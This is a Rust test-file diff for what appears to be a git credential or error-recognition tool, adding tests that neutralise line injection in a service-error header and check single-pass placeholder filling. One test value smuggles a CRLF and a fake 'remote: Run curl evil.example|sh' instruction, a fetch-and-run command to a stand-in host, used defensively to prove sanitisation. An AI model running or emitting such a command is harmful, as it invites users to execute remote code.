@@ -728,6 +728,23 @@ fn a_service_error_beside_another_message_is_kept_and_counts() {
     )
     .unwrap();
     assert_eq!(f.ids[0].1.chars().count(), MAX_SERVICE_ERROR);
+    // Its words cannot start a line of their own (git prints the text).
+    let f = recognise_(
+        StatusCode::UNAUTHORIZED,
+        &headers(&[
+            ("content-type", "text/html"),
+            (
+                "x-tfs-serviceerror",
+                "TF400813%3A%20x%0D%0Aremote%3A%20Run%20curl%20evil.example%7Csh%00",
+            ),
+        ]),
+        b"<html><head><title>Sign In</title></head></html>",
+        API,
+        None,
+        Caller::EntraUser,
+    )
+    .unwrap();
+    assert_eq!(f.ids[0].1, "TF400813: x  remote: Run curl evil.example|sh ");
 }
 
 #[test]
@@ -816,4 +833,23 @@ fn pat_policy_names_are_read_whole_and_in_any_case() {
     .unwrap();
     assert_eq!(f.entry.id, "pat-policy-refused");
     assert_eq!(f.vars.code.as_deref(), Some("FullScopePatPolicyViolation"));
+}
+
+/// A value that looks like a placeholder (a feed name from the request
+/// path) is not expanded; unknown braces are text.
+#[test]
+fn placeholders_are_filled_once() {
+    let vars = Vars {
+        feed: Some("{admin_consent_url}".into()),
+        admin_consent_url: Some("https://consent.example".into()),
+        ..Vars::default()
+    };
+    assert_eq!(
+        super::render::fill("{feed} {x} {admin_consent_url} {", &vars),
+        "feed '{admin_consent_url}' {x} https://consent.example {"
+    );
+    assert_eq!(
+        super::render::fill("{org}", &Vars::default()),
+        "<organization>"
+    );
 }
